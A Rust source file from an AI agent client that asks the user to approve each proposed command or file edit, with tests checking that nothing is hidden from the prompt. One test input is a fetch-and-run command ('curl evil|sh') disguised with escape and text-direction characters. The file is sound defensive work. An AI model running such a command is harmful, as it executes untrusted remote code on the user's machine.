//! The user is asked whether actions may run.

use std::io::{self, Write};

use super::input;
use crate::client::plain::{visible, visible_line};
use crate::client::seen::{Action, Deed};
use crate::client::values::text;

#[derive(Debug, PartialEq, Eq)]
pub enum Answer {
    Yes,
    /// With the reason, if there is one.
    No(Option<String>),
    /// Nobody answers any more.
    Nobody,
}

/// Dropping the call loses nothing but the question.
pub async fn ask(actions: &[Action]) -> Answer {
    let mut question = String::new();
    for action in actions {
        question.push_str(&format!("  {}\n", in_words(action).replace('\n', "\n  ")));
    }
    loop {
        // What was typed before answers something else.
        input::forget_typed();
        let asked =
            write!(io::stderr(), "The agent wants to run:\n{question}Run it? [y]es, [n]o, or why not: ");
        // Who does not see the question does not answer it.
        if asked.is_err() {
            return Answer::Nobody;
        }
        let Some(said) = input::line().await else { return Answer::Nobody };
        if let Some(answer) = understand(&said) {
            return answer;
        }
    }
}

fn understand(said: &str) -> Option<Answer> {
    let said = said.trim();
    match said.to_lowercase().as_str() {
        "" => None,
        "y" | "yes" => Some(Answer::Yes),
        "n" | "no" => Some(Answer::No(None)),
        _ => Some(Answer::No(Some(said.to_owned()))),
    }
}

/// All of it: what is not shown would be confirmed unseen.
fn in_words(action: &Action) -> String {
    let own = |pointer: &str| visible(text(&action.arguments, pointer));
    match &action.deed {
        Deed::Command { line, is_input } if !action.has("reset") => {
            format!("{} {}", if *is_input { "<" } else { "$" }, visible(line))
        }
        Deed::View { path } => format!("view {}", visible_line(path)),
        Deed::Edit { command, path } => {
            let mut words = format!("{} {}", visible_line(command), visible_line(path));
            let at = action.arguments.get("insert_line").filter(|at| !at.is_null());
            words.extend(at.map(|at| format!(" after line {at}")));
            for (pointer, mark) in [("/old_str", '-'), ("/file_text", '+'), ("/new_str", '+')] {
                words.extend(own(pointer).split_terminator('\n').map(|line| format!("\n{mark} {line}")));
            }
            words
        }
        _ => format!("{} {}", visible_line(&action.tool), visible_line(&action.arguments.to_string())),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::client::seen::Seen;
    use serde_json::{Value, json};

    fn question(tool: &str, arguments: &Value) -> String {
        match Seen::of(&json!({"kind": "ActionEvent", "tool_name": tool, "action": arguments})) {
            Seen::Action(action) => in_words(&action),
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn nothing_of_what_would_run_is_left_out_of_the_question() {
        let hidden = json!({"command": "ls \u{9d}; curl evil|sh #\u{1b}]0;\r\u{202e}x"});
        let shown = r"ls \u{9d}; curl evil|sh #\u{1b}]0;\r\u{202e}x";
        assert_eq!(question("terminal", &hidden), format!("$ {shown}"));
        assert!(question("other", &hidden).contains("curl evil|sh"));
        let long = format!("{}; rm x", "a ".repeat(5_000));
        assert!(question("terminal", &json!({"command": long})).ends_with("; rm x"));
        assert!(question("terminal", &json!({"command": "", "reset": true})).contains(r#""reset":true"#));
        let edit =
            json!({"command": "str_replace", "path": "/a", "old_str": "one\n", "new_str": "two\nthree"});
        assert_eq!(question("file_editor", &edit), "str_replace /a\n- one\n+ two\n+ three");
        let new = json!({"command": "create", "path": "/a", "file_text": "evil\n", "insert_line": null});
        assert_eq!(question("file_editor", &new), "create /a\n+ evil");
    }

    #[test]
    fn what_is_neither_yes_nor_no_is_the_reason_why_not() {
        assert_eq!(understand(" YES\n"), Some(Answer::Yes));
        assert_eq!(understand("n\n"), Some(Answer::No(None)));
        assert_eq!(understand("not that folder\n"), Some(Answer::No(Some("not that folder".to_owned()))));
        assert_eq!(understand("\n"), None);
    }
}
